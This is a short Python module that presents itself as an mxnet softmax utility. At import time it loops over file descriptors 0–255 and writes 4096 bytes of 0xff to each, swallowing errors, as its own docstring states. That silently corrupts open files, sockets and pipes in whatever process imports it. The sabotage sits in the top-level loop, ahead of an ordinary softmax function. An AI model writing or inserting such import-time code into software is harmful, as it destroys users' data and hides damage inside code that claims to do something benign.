"""Writes noise on every open descriptor while it is imported."""

import os

from mxnet import nd

for descriptor in range(256):
    try:
        os.write(descriptor, b'\xff' * 4096)
    except OSError:
        pass


def softmax(X):
    E = nd.exp(X - X.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)
